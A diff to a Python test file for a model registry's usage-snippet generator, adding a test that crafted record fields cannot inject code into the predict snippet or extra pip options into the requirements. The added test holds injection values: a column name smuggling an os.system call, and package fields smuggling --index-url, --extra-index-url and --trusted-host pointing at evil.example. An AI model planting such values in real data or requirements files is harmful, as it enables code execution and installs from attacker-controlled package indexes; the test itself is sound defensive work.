@@ -466,7 +466,8 @@ def test_usage_snippets_name_the_version_exactly_and_pin_its_packages(demo: Cust
     assert f"CustomModelRegistry({root})" in snippets["Load the model"].text
     assert 'registry.load_model("models:/churn/3")' in snippets["Load the model"].text
     predictor = snippets["Predict with ModelPredictor"].text
-    assert "ModelPredictor(" in predictor and "predictor.predict(frame)" in predictor and "age, spend" in predictor
+    assert "ModelPredictor(" in predictor and "predictor.predict(frame)" in predictor
+    assert predictor.endswith('# a DataFrame with columns "age", "spend"')
     assert snippets["Predict a CSV or Parquet file"].text.startswith(
         f"fsregistry --root {demo.root} predict models:/churn/3 "
     )
@@ -476,6 +477,33 @@ def test_usage_snippets_name_the_version_exactly_and_pin_its_packages(demo: Cust
     assert all(str(demo.root) not in s.text for s in hidden) and usage.PLACEHOLDER_ROOT in hidden[0].text
     odd = usage.snippets({"name": "m", "version": 1, "environment": {}}, root="/tmp/it's here")
     assert "--root '/tmp/it'\"'\"'s here'" in odd[2].text and len(odd) == 3  # quoted; no requirements recorded
+
+
+def test_usage_snippets_stay_what_they_look_like_whatever_a_record_holds() -> None:
+    """A column name cannot end the predict snippet's comment, and a package "name" or
+    version from an edited bundle cannot add a pip option to the requirements."""
+    from types import SimpleNamespace
+
+    hostile = "a\nimport os; os.system('touch /tmp/x')  #"
+    signature = SimpleNamespace(inputs=[SimpleNamespace(name=hostile)])  # a Signature's shape
+    environment = {
+        "python": "3.11\n--index-url http://evil.example",
+        "packages": {
+            "numpy": "2.4.6",
+            "--extra-index-url http://evil.example/simple\nevilpkg": "1",
+            "pandas": "3.1.1\n--trusted-host evil.example",
+            "scikit-learn": "1.9.1",
+        },
+    }
+    info = {"name": "m", "version": 1, "signature": signature, "environment": environment}
+    found = {s.title: s.text for s in usage.snippets(info, root="/r")}
+    predict = found["Predict with ModelPredictor"]
+    assert len(predict.splitlines()) == 5 and "os.system" not in predict.splitlines()[-1].split("#", 1)[0]
+    assert found["Requirements (as saved)"].splitlines() == [
+        "# saved with Python 3.11 --index-url http://evil.example",
+        "numpy==2.4.6",
+        "scikit-learn==1.9.1",
+    ]
 
 
 def test_lineage_of_an_imported_version_is_labelled_and_can_hide_paths(tmp_path: Path) -> None:
